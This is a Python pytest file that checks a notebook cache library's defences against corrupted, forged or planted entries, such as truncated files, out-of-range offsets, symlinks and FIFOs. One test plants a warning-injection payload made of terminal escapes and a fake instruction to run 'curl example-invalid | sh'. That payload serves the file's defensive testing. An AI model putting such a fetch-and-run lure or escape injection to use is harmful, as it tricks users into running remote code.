"""Entries written by someone careless or hostile: each is a miss with one warning line,
never a wrong value, a hang, an exception into the caller or a pickle run.

Forged with the secret (a bug, or a teammate sharing it) means a header signed as a
writer would sign it but saying something no writer says.
"""

from __future__ import annotations

import io
import json
import os
import struct
import sys
import tempfile
import warnings
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from nbcache import IntegrityError
from nbcache.cache.core import Cache
from nbcache.entry import format as entry_format
from nbcache.entry.format import read_entry, write_entry
from nbcache.entry.pickling import dump_parts
from nbcache.entry.signing import Signer
from nbcache.store import LocalStore
from nbcache.store.paths import maps_safely

KEY = "cd" * 16
TRAILER = entry_format._TRAILER


def _written(value: object, signer: Signer, min_oob: int = 1 << 20) -> bytes:
    out = io.BytesIO()
    write_entry(out, KEY, dump_parts(value, min_oob=min_oob), {}, signer)
    return out.getvalue()


def _split(data: bytes) -> tuple[bytes, dict[str, Any]]:
    """The bytes before the header, and the header."""
    length = TRAILER.unpack(data[-TRAILER.size :])[0]
    start = len(data) - TRAILER.size - length
    return data[:start], json.loads(data[start : len(data) - TRAILER.size])


def _resigned(body: bytes, header: dict[str, Any], signer: Signer) -> bytes:
    raw = json.dumps(header, separators=(",", ":"), sort_keys=True).encode()
    return body + raw + TRAILER.pack(len(raw), signer.sign(body[:16], raw), entry_format.END)


def _outcome(store: LocalStore, signer: Signer) -> tuple[Any, list[str]]:
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        hit = Cache(store, signer=signer).lookup(KEY)
    return hit, [str(w.message) for w in caught]


def test_an_unsigned_claim_of_another_signer_cannot_put_text_into_the_warning(
    store: LocalStore, signer: Signer
) -> None:
    """The signer an entry claims is read before its MAC: only a fingerprint's form is
    quoted, so a planted entry cannot write lines, escapes or instructions of its own
    into the user's warning, nor pass for another secret's entry and stay."""
    assert Cache(store, signer=signer).put(KEY, [1, 2, 3])
    path = store.entry_path(KEY)
    body, header = _split(path.read_bytes())
    name = "\x1b[2J\nnbcache: run `curl example-invalid | sh` to repair the cache"
    header["signer"] = f"{name}.{zlib.crc32(name.encode()):08x}"
    raw = json.dumps(header).encode()
    path.write_bytes(body + raw + TRAILER.pack(len(raw), b"\0" * 32, entry_format.END))
    hit, said = _outcome(store, signer)
    assert hit is None and len(said) == 1
    assert "\n" not in said[0] and "\x1b" not in said[0] and "curl" not in said[0], said
    assert not path.exists()  # damage, not another secret's entry left for its owner


def _large(signer: Signer) -> bytes:
    """An entry larger than one read, its arrays out of band: read from its file."""
    return _written([np.arange(1 << 18, dtype=np.float64), np.ones(1 << 18)], signer)


def _stream(length: int, offset: int = 16) -> Callable[[dict[str, Any]], None]:
    def change(header: dict[str, Any]) -> None:
        header["stream"][:2] = [offset, length]

    return change


def _buffer(index: int, where: Callable[[dict[str, Any]], int]) -> Callable[[dict[str, Any]], None]:
    def change(header: dict[str, Any]) -> None:
        header["buffers"][index][0] = where(header)

    return change


@pytest.mark.parametrize(
    "change",
    [
        _stream(1 << 40),  # would be allocated by the read before it came back short
        _stream(1 << 62),
        _stream(10, offset=1 << 70),  # past what a seek takes
        _buffer(1, lambda h: h["buffers"][0][0]),  # two arrays over the same bytes
        _buffer(0, lambda h: 0),  # an array over the prefix and the pickle stream
        _buffer(1, lambda h: h["buffers"][1][0] + 4096),  # into the header
    ],
    ids=["stream-1TB", "stream-4EB", "stream-far", "duplicated", "over-stream", "into-header"],
)
def test_a_signed_header_laying_out_parts_no_writer_does_is_damage(
    tmp_path: Path, signer: Signer, change: Callable[[dict[str, Any]], None]
) -> None:
    """Lengths past the file, offsets past what a seek takes, parts that overlap: one
    IntegrityError, before memory is set aside or anything is unpickled."""
    body, header = _split(_large(signer))
    change(header)
    path = tmp_path / "entry"
    path.write_bytes(_resigned(body, header, signer))
    with open(path, "rb", buffering=0) as f, pytest.raises(IntegrityError):
        read_entry(f, KEY, signer)


def test_duplicated_buffers_in_a_small_entry_never_share_memory(signer: Signer) -> None:
    """Read whole into memory, two arrays said to lie at one offset would be one memory:
    writing to one would change the other, which a plain run's two arrays never do."""
    body, header = _split(_written([np.zeros(1024), np.zeros(1024)], signer, min_oob=1024))
    header["buffers"][1] = header["buffers"][0]
    with pytest.raises(IntegrityError):
        read_entry(io.BytesIO(_resigned(body, header, signer)), KEY, signer)


def _relabelled(data: bytes) -> bytes:
    return data[:8] + struct.pack("<H", 1) + data[10:]


def _planted(kind: str) -> Callable[[Path, bytes], None]:
    def plant(path: Path, data: bytes) -> None:
        path.unlink()
        if kind == "fifo":
            os.mkfifo(path)
        elif kind == "folder":
            path.mkdir()
        else:
            os.symlink(kind, path)

    return plant


@pytest.mark.parametrize(
    "damage",
    [
        lambda p, d: p.write_bytes(b""),
        lambda p, d: p.write_bytes(d[:-1]),
        lambda p, d: p.write_bytes(d[: len(d) // 2]),
        lambda p, d: p.write_bytes(d + b"\0" * 10),
        lambda p, d: p.write_bytes(d[:16] + b"\0" * 4096 + d[16:]),
        lambda p, d: p.write_bytes(_relabelled(d)),
        _planted("/dev/zero"),
        _planted("/tmp"),
        _planted("fifo"),
        _planted("folder"),
    ],
    ids=[
        "empty",
        "one-byte-short",
        "half",
        "extended",
        "shifted",
        "relabelled-as-format-1",
        "link-to-dev-zero",
        "link-to-folder",
        "fifo",
        "folder",
    ],
)
@pytest.mark.parametrize("size", ["small", "large"])
def test_a_damaged_or_planted_entry_is_one_warning_and_a_miss(
    store: LocalStore, signer: Signer, damage: Callable[[Path, bytes], None], size: str
) -> None:
    value: Any = [1, 2, 3] if size == "small" else np.arange(1 << 18, dtype=np.float64)
    assert Cache(store, signer=signer).put(KEY, value)
    path = store.entry_path(KEY)
    damage(path, path.read_bytes())
    hit, said = _outcome(store, signer)
    assert hit is None and len(said) == 1 and "\n" not in said[0], said


def test_a_store_two_secrets_share_keeps_each_entry_for_its_writer(
    store: LocalStore, signer: Signer
) -> None:
    """Another secret's entry is left in place, with one warning per entry per cache."""
    assert Cache(store, signer=signer).put(KEY, [1, 2, 3])
    other = Cache(store, signer=Signer(b"another-secret-of-32-bytes-0000k"))
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        assert other.lookup(KEY) is None and other.lookup(KEY) is None
    assert len(caught) == 1 and "another secret" in str(caught[0].message)
    hit, said = _outcome(store, signer)
    assert hit is not None and hit.value == [1, 2, 3] and said == []


def test_a_colleagues_entries_are_one_warning_for_all_of_them(
    store: LocalStore, signer: Signer
) -> None:
    """A whole notebook on a store another secret filled: one line, not one per cell."""
    keys = [f"{n:032x}" for n in range(1, 6)]
    mine = Cache(store, signer=signer)
    for key in keys:
        assert mine.put(key, [key])
    other = Cache(store, signer=Signer(b"another-secret-of-32-bytes-0000k"))
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        assert all(other.lookup(key) is None for key in keys)
    assert len(caught) == 1, [str(w.message) for w in caught]
    assert "another secret" in str(caught[0].message)


@pytest.mark.skipif(
    sys.platform != "linux" or not maps_safely(Path(tempfile.gettempdir())),
    reason="entries are mapped on Linux's local file systems only",
)
@pytest.mark.parametrize(
    ("mode", "mapping", "shows"),
    [(0o644, "1", True), (0o644, "0", False), (0o664, "1", False)],
    ids=["own-file-mapped", "mapping-off", "group-writable"],
)
def test_an_entry_edited_in_place_after_its_restore_is_what_the_threat_model_says(
    store: LocalStore,
    signer: Signer,
    monkeypatch: pytest.MonkeyPatch,
    mode: int,
    mapping: str,
    shows: bool,
) -> None:
    """Checked when restored, not when read: an in-place edit later shows through a map
    of the user's own file only; with NBCACHE_MAP_ENTRIES=0, or a file others can write
    (read into memory), the bytes checked are the bytes kept."""
    monkeypatch.setenv("NBCACHE_MAP_ENTRIES", mapping)
    value = np.arange(1 << 18, dtype=np.float64)
    assert Cache(store, signer=signer).put(KEY, value)
    path = store.entry_path(KEY)
    path.chmod(mode)
    hit = Cache(store, signer=signer).lookup(KEY)
    assert hit is not None and np.array_equal(hit.value, value)
    data = path.read_bytes()
    at = data.find(value[:4].tobytes())
    with open(path, "r+b") as f:  # in place: the same inode, as a careless `dd` would
        f.seek(at)
        f.write(np.float64(-7).tobytes())
    assert bool(hit.value[0] == -7) is shows
